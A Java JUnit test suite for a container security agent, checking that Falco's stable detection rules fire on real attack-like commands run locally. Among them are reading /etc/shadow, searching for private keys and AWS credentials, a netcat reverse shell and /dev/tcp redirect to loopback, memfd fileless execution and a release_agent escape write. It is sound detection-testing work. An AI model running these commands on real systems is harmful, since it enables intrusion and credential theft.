package dev.peregrine.agent;

import dev.peregrine.agent.policy.Detector;
import dev.peregrine.agent.policy.Policies;
import dev.peregrine.agent.policy.TrapPlan;
import dev.peregrine.capture.LaunchSpec;
import dev.peregrine.capture.TrapSet;
import dev.peregrine.protocol.Action;
import dev.peregrine.protocol.Alert;
import dev.peregrine.protocol.Policy;
import dev.peregrine.protocol.Workload;
import dev.peregrine.rules.event.ContainerInfo;
import dev.peregrine.rules.event.ContainerRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The upstream stable rules (falco_rules.yaml) under the agent, one test per rule a workload in an
 * ECS container can trigger: the smallest real command that does what the rule describes runs
 * under the real tracer, as the first process of a container (the upstream {@code container}
 * macro holds), and the rule must fire once with the fields Falco prints. Where cheap, a benign
 * look-alike in the same run must not fire. Commands are Debian's own (sh, bash, perl, python3,
 * grep, find, ln, setpriv, ssh, busybox...); a program name a rule keys on (nginx, sshd, nc) is a
 * symbolic link to a real program, which is what the kernel names the process after.
 * Rules that cannot apply in an ECS container are listed in agent/README.md.
 */
class StableRulesTest {
    /** As in a task: the upstream rules' {@code container} macro holds. */
    static final ContainerRecord CONTAINER = PipelineTest.CONTAINER;
    /** The same container, privileged (ECS on EC2 allows it; Fargate does not). */
    static final ContainerRecord PRIVILEGED = new ContainerRecord("0123456789ab", "app", "nginx:1.27", "nginx", "1.27",
            null, true, 0L, null, null, null);
    /** CI's environment is minimal: the workload gets exactly this one. */
    static final Map<String, String> ENV = Map.of("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");

    private static Detector stable;

    /** The workload's working directory. */
    @TempDir
    Path dir;
    /** The workload's stdout and stderr, out of its way. */
    @TempDir
    Path io;

    @BeforeAll
    static void compile() throws Exception {
        // The attack tools these tests use, on a machine that lacks one.
        Path root = Path.of(System.getProperty("peregrine.root", ".."));
        Process p = new ProcessBuilder(root.resolve("scripts/ensure-packages.sh").toString(), "busybox-static",
                "openssh-client", "e2fsprogs", "iproute2", "python3", "perl", "util-linux").inheritIO().start();
        assertEquals(0, p.waitFor(), "scripts/ensure-packages.sh");
        stable = new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.NOTIFY_ALL);
    }

    /** What one workload run raised. */
    record Outcome(int status, List<Alert> alerts, String stdout, String stderr) {
        List<Alert> of(String rule) {
            return alerts.stream().filter(a -> a.rule().equals(rule)).toList();
        }

        /** The one alert of {@code rule}; fails naming everything that fired otherwise. */
        Map<String, Object> once(String rule) {
            List<Alert> hits = of(rule);
            assertEquals(1, hits.size(), rule + " should fire once; alerts: " + alerts + "\nstderr: " + stderr);
            return hits.getFirst().outputFields();
        }

        void none(String rule) {
            assertEquals(List.of(), of(rule), rule + " should not fire; stderr: " + stderr);
        }
    }

    private Outcome run(String... command) throws Exception {
        return run(CONTAINER, stable, List.of(command));
    }

    /** Runs {@code command} as a container's first process under {@code rules}, the way the standalone agent does. */
    private Outcome run(ContainerInfo container, Detector rules, List<String> command) throws Exception {
        List<Alert> alerts = new CopyOnWriteArrayList<>();
        Supervisor sup = new Supervisor();
        Pipeline pipeline = new Pipeline(Workload.UNKNOWN, container, "test-host", alerts::add, sup, new SelfProtection(-2), 10);
        pipeline.install(rules);
        TrapSet traps = TrapPlan.withDirectoryOpensUntraced(TrapPlan.forEventTypes(rules.eventTypes()), rules.running());
        Path out = Files.createTempFile(io, "stdout", ".txt");
        Path err = Files.createTempFile(io, "stderr", ".txt");
        LaunchSpec spec = new LaunchSpec(command, ENV, traps, dir, Path.of("/dev/null"), out, err)
                .withGroup(LaunchSpec.Group.OWN_SESSION);
        sup.start(spec, pipeline, TrapPlan.exitHooked(traps, rules.killingAtExit().eventTypes()));
        int status = sup.awaitExit(Duration.ofSeconds(20));
        return new Outcome(status, List.copyOf(alerts), Files.readString(out), Files.readString(err));
    }

    /** A program under another name: the kernel names a process after the file it executes. */
    private Path alias(String name, String target) throws IOException {
        Path bin = Files.createDirectories(dir.resolve("bin"));
        return Files.createSymbolicLink(bin.resolve(name), Path.of(target));
    }

    private static String field(Map<String, Object> fields, String name) {
        return String.valueOf(fields.get(name));
    }

    // ---- files -------------------------------------------------------------------------------

    @Test
    void readSensitiveFileUntrusted() throws Exception {
        Outcome o = run("sh", "-c", "cat /etc/shadow > /dev/null; cat /etc/passwd > /dev/null");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Read sensitive file untrusted");
        assertEquals("/etc/shadow", field(f, "fd.name"));
        assertEquals("cat", field(f, "proc.name"));
        assertEquals("cat /etc/shadow", field(f, "proc.cmdline"));
        assertEquals("sh", field(f, "proc.pname"));
        assertEquals("root", field(f, "user.name"));
        assertTrue(field(f, "evt.type").startsWith("open"), f.toString());
    }

    @Test
    void readSensitiveFileTrustedAfterStartup() throws Exception {
        // A server (named nginx) reading /etc/shadow at start-up is expected; five seconds later it is not.
        Path nginx = alias("nginx", "/usr/bin/perl");
        Outcome o = run(nginx.toString(), "-e", """
                open(my $a, "<", "/etc/shadow") or die "shadow: $!"; close $a;
                select(undef, undef, undef, 5.3);
                open(my $b, "<", "/etc/shadow") or die "shadow: $!"; close $b;
                """);
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Read sensitive file trusted after startup");
        assertEquals("/etc/shadow", field(f, "fd.name"));
        assertEquals("nginx", field(f, "proc.name"));
        assertEquals("/usr/bin/perl", field(f, "proc.exepath"), "the executable, links resolved");
    }

    @Test
    void directoryTraversalMonitoredFileRead() throws Exception {
        // A web application handed "../" paths below its document root (the working directory),
        // absolute and relative; fd.nameraw is the path as passed, fd.name the file it names.
        String traversal = dir + "/../../etc/passwd";
        Outcome o = run("perl", "-e", """
                open(my $a, "<", "%s") or die "traversal: $!"; close $a;
                open(my $r, "<", "../../etc/passwd") or die "relative: $!"; close $r;
                open(my $b, "<", "/etc/passwd") or die "passwd: $!"; close $b;
                """.formatted(traversal));
        assertEquals(0, o.status, o.stderr);
        List<Alert> hits = o.of("Directory traversal monitored file read");
        assertEquals(List.of(traversal, "../../etc/passwd"),
                hits.stream().map(a -> field(a.outputFields(), "fd.nameraw")).toList(), o.alerts.toString());
        Map<String, Object> f = hits.getFirst().outputFields();
        assertEquals("/etc/passwd", field(f, "fd.name"));
        assertEquals("/etc/passwd", field(hits.getLast().outputFields(), "fd.name"));
        assertEquals("perl", field(f, "proc.name"));
    }

    @Test
    void clearLogActivities() throws Exception {
        Outcome o = run("sh", "-c", ": > auth.log; echo more >> auth.log; : > notes.txt");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Clear Log Activities");
        assertEquals(dir.resolve("auth.log").toString(), field(f, "fd.name"));
        assertEquals("sh", field(f, "proc.name"));
    }

    @Test
    void createSymlinkOverSensitiveFiles() throws Exception {
        Outcome o = run("sh", "-c", "ln -s /etc/shadow shadow-link; ln -s /etc/hostname hostname-link");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Create Symlink Over Sensitive Files");
        assertEquals("/etc/shadow", field(f, "evt.arg.target"));
        assertEquals("shadow-link", field(f, "evt.arg.linkpath"));
        assertEquals("ln", field(f, "proc.name"));
        assertEquals("ln -s /etc/shadow shadow-link", field(f, "proc.cmdline"));
    }

    @Test
    void createHardlinkOverSensitiveFiles() throws Exception {
        Files.writeString(dir.resolve("mine"), "x");
        Outcome o = run("sh", "-c", "ln /etc/shadow shadow-link; ln mine mine-link; rm -f shadow-link");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Create Hardlink Over Sensitive Files");
        assertEquals("/etc/shadow", field(f, "evt.arg.oldpath"));
        assertEquals("shadow-link", field(f, "evt.arg.newpath"));
        assertEquals("ln", field(f, "proc.name"));
    }

    @Test
    void detectReleaseAgentFileContainerEscapes() throws Exception {
        // Written with CAP_SYS_ADMIN it is an escape attempt; the same write without it is not.
        Outcome o = run("sh", "-c", "echo /tmp/payload > release_agent; "
                + "setpriv --bounding-set=-sys_admin --inh-caps=-all sh -c 'echo y > release_agent'");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Detect release_agent File Container Escapes");
        assertEquals(dir.resolve("release_agent").toString(), field(f, "fd.name"));
        assertTrue(field(f, "thread.cap_effective").contains("CAP_SYS_ADMIN"), f.toString());
    }

    // ---- processes ---------------------------------------------------------------------------

    @Test
    void runShellUntrusted() throws Exception {
        Path nginx = alias("nginx", "/usr/bin/perl");
        Outcome o = run(nginx.toString(), "-e", """
                system("/bin/true") == 0 or die "true: $?";
                system("/bin/sh", "-c", "echo owned") == 0 or die "sh: $?";
                """);
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Run shell untrusted");
        assertEquals("sh", field(f, "proc.name"));
        assertEquals("nginx", field(f, "proc.pname"));
        assertEquals("sh -c echo owned", field(f, "proc.cmdline"));
        assertEquals(nginx.toString(), field(f, "proc.pexe"));
        assertEquals("/usr/bin/perl", field(f, "proc.pexepath"));
    }

    @Test
    void systemUserInteractive() throws Exception {
        // A login session (sshd) where a system account (nobody) runs a command; root's commands do not count.
        Path sshd = alias("sshd", "/bin/sh");
        Outcome o = run(sshd.toString(), "-c", "id -u > /dev/null; setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/id -u");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("System user interactive");
        assertEquals("id", field(f, "proc.name"));
        assertEquals("nobody", field(f, "user.name"));
        assertEquals("65534", field(f, "user.uid"));
        assertEquals("sshd", field(f, "proc.pname"));
    }

    @Test
    void terminalShellInContainer() throws Exception {
        // The container's first process gets a terminal and becomes a shell (docker exec -it, ECS Exec).
        String python = """
                import os, fcntl, termios
                try:
                    os.setsid()
                except OSError:
                    pass
                master, slave = os.openpty()
                os.set_inheritable(master, True)  # the shell keeps the terminal open: no hang-up
                fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
                for fd in (0, 1, 2):
                    os.dup2(slave, fd)
                os.execv("/bin/sh", ["sh", "-c", "true"])
                """;
        Outcome o = run("/usr/bin/python3", "-c", python);
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Terminal shell in container");
        assertEquals("sh", field(f, "proc.name"));
        assertTrue(((Number) f.get("proc.tty")).longValue() != 0, f.toString());
        assertEquals("sh -c true", field(f, "proc.cmdline"));

        run("sh", "-c", "true").none("Terminal shell in container");
    }

    @Test
    void searchPrivateKeysOrPasswords() throws Exception {
        Files.writeString(dir.resolve("notes"), "hello\n");
        Outcome o = run("sh", "-c", "grep -rl 'BEGIN RSA PRIVATE' . ; grep -rl hello . ; find . -name id_rsa; find . -name notes");
        assertEquals(0, o.status, o.stderr);
        List<Alert> hits = o.of("Search Private Keys or Passwords");
        assertEquals(List.of("grep -rl BEGIN RSA PRIVATE .", "find . -name id_rsa"),
                hits.stream().map(a -> field(a.outputFields(), "proc.cmdline")).toList(), o.alerts.toString());
    }

    @Test
    void findAwsCredentials() throws Exception {
        Outcome o = run("sh", "-c", "grep -ri aws_secret_access_key . ; find . -path '*/.aws/credentials'; "
                + "find . -name config; grep -r region . ; true");
        assertEquals(0, o.status, o.stderr);
        List<Alert> hits = o.of("Find AWS Credentials");
        assertEquals(List.of("grep -ri aws_secret_access_key .", "find . -path */.aws/credentials"),
                hits.stream().map(a -> field(a.outputFields(), "proc.cmdline")).toList(), o.alerts.toString());
        assertEquals(dir.toString(), field(hits.getFirst().outputFields(), "proc.cwd"));
    }

    @Test
    void removeBulkDataFromDisk() throws Exception {
        Files.writeString(dir.resolve("data"), "x".repeat(4096));
        Files.writeString(dir.resolve("other"), "x");
        Outcome o = run("sh", "-c", "shred -u data; rm other");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Remove Bulk Data from Disk");
        assertEquals("shred", field(f, "proc.name"));
        assertEquals("shred -u data", field(f, "proc.cmdline"));
    }

    @Test
    void executionFromDevShm() throws Exception {
        Path shm = Files.createTempDirectory(Path.of("/dev/shm"), "peregrine-test-");
        try {
            Path dropped = Files.copy(Path.of("/bin/true"), shm.resolve("payload"));
            Path local = Files.copy(Path.of("/bin/true"), dir.resolve("payload"));
            for (Path p : List.of(dropped, local)) {
                Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rwxr-xr-x"));
            }
            Outcome o = run("perl", "-e", "system('" + dropped + "') == 0 or die; system('" + local + "') == 0 or die;");
            assertEquals(0, o.status, o.stderr);
            Map<String, Object> f = o.once("Execution from /dev/shm");
            assertEquals(dropped.toString(), field(f, "proc.exepath"));
            assertEquals("payload", field(f, "proc.name"));
        } finally {
            try (var files = Files.walk(shm)) {
                files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    @Test
    void filelessExecutionViaMemfdCreate() throws Exception {
        // memfd_create (319 on x86_64, 279 on aarch64), the ELF copied in, exec'd through /proc/self/fd.
        int memfdCreate = "aarch64".equals(System.getProperty("os.arch")) ? 279 : 319;
        Outcome o = run("perl", "-e", """
                my $name = "payload";
                my $fd = syscall(%d, $name, 0);
                die "memfd_create: $!" if $fd < 0;
                open(my $m, ">&=", $fd) or die "fdopen: $!";
                open(my $t, "<:raw", "/bin/true") or die "true: $!";
                local $/; my $elf = <$t>;
                binmode $m; print $m $elf; $m->flush;
                system("/bin/true") == 0 or die;
                print "$fd\n"; STDOUT->flush;
                exec {"/proc/self/fd/$fd"} "payload" or die "exec: $!";
                """.formatted(memfdCreate));
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Fileless execution via memfd_create");
        // The kernel names the process after the file executed, /proc/self/fd/N: Falco prints N too.
        assertEquals(o.stdout.strip(), field(f, "proc.name"));
        assertTrue(field(f, "proc.exepath").startsWith("memfd:payload"), f.toString());
    }

    @Test
    void dropAndExecuteNewBinaryInContainer() throws Exception {
        // The container started now: the image's /bin/true is older, a copy the workload makes is not.
        java.time.Instant now = java.time.Instant.now();
        ContainerRecord started = new ContainerRecord("0123456789ab", "app", "nginx:1.27", "nginx", "1.27", null, false,
                now.getEpochSecond() * 1_000_000_000L + now.getNano(), null, null, null);
        Outcome o = run(started, stable, List.of("sh", "-c", "/bin/true && cp /bin/true ./dropped && ./dropped"));
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Drop and execute new binary in container");
        assertEquals("dropped", field(f, "proc.name"));
        assertEquals("./dropped", field(f, "proc.exe"));
        assertEquals(dir.resolve("dropped").toString(), field(f, "proc.exepath"));
        assertEquals(((java.nio.file.attribute.FileTime) Files.getAttribute(dir.resolve("dropped"), "unix:ctime"))
                .to(java.util.concurrent.TimeUnit.NANOSECONDS), ((Number) f.get("proc.exe_ino.ctime")).longValue());
        assertEquals(started.startTimeNanos(), ((Number) f.get("container.start_ts")).longValue());

        // Unknown container start (as outside ECS): never guessed.
        run("sh", "-c", "cp /bin/true ./again && ./again").none("Drop and execute new binary in container");
    }

    @Test
    void debugfsLaunchedInPrivilegedContainer() throws Exception {
        List<String> debugfs = List.of("debugfs", "-R", "stats", "/dev/null");
        Map<String, Object> f = run(PRIVILEGED, stable, debugfs).once("Debugfs Launched in Privileged Container");
        assertEquals("debugfs -R stats /dev/null", field(f, "proc.cmdline"));
        run(debugfs.toArray(String[]::new)).none("Debugfs Launched in Privileged Container");
    }

    @Test
    void linuxKernelModuleInjectionIsDetectedAndDeniedBeforeItRuns() throws Exception {
        // Never loaded for real: a deny policy refuses finit_module at entry, so the kernel never sees the file.
        Policy deny = new Policy("no modules", true, List.of("Linux Kernel Module Injection Detected"), null, null,
                List.of(Action.DENY), null);
        Detector rules = new Detector(Agent.loadRules(List.of(Run.upstreamRules())), Policies.standalone(List.of(deny)));
        Files.write(dir.resolve("rootkit.ko"), "not an ELF module".getBytes(StandardCharsets.US_ASCII));
        int finitModule = "aarch64".equals(System.getProperty("os.arch")) ? 273 : 313;
        Outcome o = run(CONTAINER, rules, List.of("perl", "-e", """
                open(my $ko, "<", "rootkit.ko") or die "open: $!";
                my $params = "";
                my $r = syscall(%d, fileno($ko), $params, 0);
                print "finit_module: ", ($r < 0 ? $! + 0 : $r), "\\n";
                """.formatted(finitModule), "rootkit.ko"));
        assertEquals(0, o.status, o.stderr);
        assertEquals("finit_module: 1\n", o.stdout, "EPERM from the agent");
        List<Alert> hits = o.of("Linux Kernel Module Injection Detected");
        assertEquals(1, hits.size(), o.alerts.toString());
        assertTrue(hits.getFirst().actions().contains("deny"), hits.toString());
        Map<String, Object> f = hits.getFirst().outputFields();
        assertEquals("finit_module", field(f, "evt.type"));
        assertTrue(field(f, "proc.args").endsWith("rootkit.ko"), f.toString());
    }

    // ---- ptrace ------------------------------------------------------------------------------

    @Test
    void ptraceAttachedToProcess() throws Exception {
        // PTRACE_ATTACH (16) to the parent shell, and a harmless PTRACE_PEEKDATA (2) that no rule watches.
        Outcome o = run("sh", "-c", "perl -e 'syscall(101, 2, getppid(), 0, 0); syscall(101, 16, getppid(), 0, 0)'; true");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("PTRACE attached to process");
        assertEquals("perl", field(f, "proc.name"));
        assertEquals("sh", field(f, "proc.pname"));
        o.none("PTRACE anti-debug attempt");
    }

    @Test
    void ptraceAntiDebugAttempt() throws Exception {
        Outcome o = run("perl", "-e", "syscall(101, 0, 0, 0, 0)");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("PTRACE anti-debug attempt");
        assertEquals("perl", field(f, "proc.name"));
        o.none("PTRACE attached to process");
    }

    // ---- network -----------------------------------------------------------------------------

    @Test
    void packetSocketCreatedInContainer() throws Exception {
        // AF_PACKET = 17, AF_INET = 2; SOCK_RAW = 3, SOCK_DGRAM = 2.
        Outcome o = run("perl", "-e", "socket(my $p, 17, 3, 0) or die \"packet: $!\"; socket(my $i, 2, 2, 0) or die \"inet: $!\";");
        assertEquals(0, o.status, o.stderr);
        Map<String, Object> f = o.once("Packet socket created in container");
        assertTrue(field(f, "evt.args").contains("AF_PACKET"), f.toString());
        assertEquals("perl", field(f, "proc.name"));
    }

    @Test
    void redirectStdoutStdinToNetworkConnection() throws Exception {
        try (var server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread peer = drain(server);
            int port = server.getLocalPort();
            // A redirection to a file is the benign look-alike: same dup2, not a socket.
            Outcome o = run("bash", "-c", "exec 4>out.txt; exec 1>&4; exec 3<>/dev/tcp/127.0.0.1/" + port
                    + "; exec 1>&3 0<&3; echo hi");
            assertEquals(0, o.status, o.stderr);
            peer.join(5_000);
            List<Alert> hits = o.of("Redirect STDOUT/STDIN to Network Connection in Container");
            assertEquals(2, hits.size(), "stdout and stdin: " + o.alerts);
            Map<String, Object> f = hits.getFirst().outputFields();
            assertTrue(field(f, "fd.name").endsWith("->127.0.0.1:" + port), f.toString());
            assertEquals(port, ((Number) f.get("fd.rport")).intValue());
            assertEquals("tcp", field(f, "fd.l4proto"));
            assertEquals("ipv4", field(f, "fd.type"));
        }
    }

    @Test
    void netcatRemoteCodeExecutionInContainer() throws Exception {
        // busybox's netcat, called nc: a reverse shell that also redirects the shell's stdin/stdout.
        Path nc = alias("nc", "/bin/busybox");
        try (var server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread peer = Thread.ofVirtual().start(() -> {
                try (Socket s = server.accept()) {
                    s.getOutputStream().write("exit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getInputStream().readAllBytes();
                } catch (IOException ignored) {
                    // the shell went away
                }
            });
            int port = server.getLocalPort();
            Outcome o = run(nc.toString(), "127.0.0.1", Integer.toString(port), "-e", "/bin/sh");
            peer.join(5_000);
            Map<String, Object> f = o.once("Netcat Remote Code Execution in Container");
            assertEquals("nc", field(f, "proc.name"));
            assertEquals(0, o.status, o.stderr);
            assertEquals("nc 127.0.0.1 " + port + " -e /bin/sh", field(f, "proc.cmdline"));
            // dup2(socket, 0), then dup2(0, 1)
            assertEquals(2, o.of("Redirect STDOUT/STDIN to Network Connection in Container").size(), o.alerts.toString());
        }
    }

    @Test
    void disallowedSshConnectionNonStandardPort() throws Exception {
        // A public address on the loopback device of a private network namespace: a real TCP connection,
        // no traffic leaves the machine. ssh to port 443 (a tunnel out through a web port).
        String perl = """
                use IO::Socket::INET;
                my $l = IO::Socket::INET->new(LocalAddr => "203.0.113.7:443", Listen => 1, ReuseAddr => 1) or die "listen: $!";
                my $pid = fork();
                if ($pid == 0) {
                    exec "ssh", "-p", "443", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                        "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "peer\\@203.0.113.7", "true";
                    die "exec: $!";
                }
                my $c = $l->accept or die "accept: $!";
                print $c "SSH-2.0-Test\\r\\n"; close $c;
                waitpid($pid, 0);
                """;
        Outcome o = run("unshare", "-n", "sh", "-c",
                "ip link set lo up && ip addr add 203.0.113.7/32 dev lo && exec perl -e '" + perl.replace("'", "'\\''") + "'");
        Map<String, Object> f = o.once("Disallowed SSH Connection Non Standard Port");
        assertEquals("ssh", field(f, "proc.name"));
        assertEquals("tcp", field(f, "fd.l4proto"));
        assertEquals(443, ((Number) f.get("fd.rport")).intValue());
        assertTrue(field(f, "fd.name").endsWith("->203.0.113.7:443"), f.toString());
    }

    private static Thread drain(ServerSocket server) {
        return Thread.ofVirtual().start(() -> {
            try (Socket s = server.accept()) {
                s.getInputStream().readAllBytes();
            } catch (IOException ignored) {
                // the workload went away
            }
        });
    }

    static List<String> names(List<Alert> alerts) {
        List<String> out = new ArrayList<>();
        alerts.forEach(a -> out.add(a.rule()));
        return out;
    }
}
